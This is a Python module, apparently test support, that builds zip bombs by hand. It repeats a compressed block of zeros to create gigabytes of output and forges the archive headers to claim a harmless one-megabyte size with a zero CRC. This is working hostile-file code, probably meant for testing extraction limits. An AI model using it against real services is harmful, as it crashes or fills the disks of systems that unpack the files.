"""Archives made to do harm, written by hand: no library makes them."""

from __future__ import annotations

import struct
import zlib
from pathlib import Path

_BLOCK = 64 << 20


def bomb(path: Path, name: str, beginning: bytes, zeros: int) -> Path:
    """A zip with one member of a beginning and so many zeros, whose headers claim a harmless size.

    A flushed block of packed zeros can be repeated, so that 42 GB are written as fast as their 42 MB.
    """
    packer = zlib.compressobj(9, zlib.DEFLATED, -zlib.MAX_WBITS)
    head = packer.compress(beginning) + packer.flush(zlib.Z_FULL_FLUSH)
    block = packer.compress(bytes(_BLOCK)) + packer.flush(zlib.Z_FULL_FLUSH)
    count = -(-zeros // _BLOCK)
    tail = packer.flush()
    packed = len(head) + count * len(block) + len(tail)
    raw = name.encode()
    fields = struct.pack("<HHHHHIIIHH", 20, 0, 8, 0, 33, 0, packed, 1_000_000, len(raw), 0)
    with path.open("wb") as target:
        target.write(b"PK\x03\x04" + fields + raw + head)
        for _ in range(count):
            target.write(block)
        target.write(tail)
        directory = target.tell()
        entry = struct.pack("<HHHII", 0, 0, 0, 0, 0)
        target.write(b"PK\x01\x02" + struct.pack("<H", 20) + fields + entry + raw)
        size = target.tell() - directory
        target.write(b"PK\x05\x06" + struct.pack("<HHHHIIH", 0, 0, 1, 1, size, directory, 0))
    return path
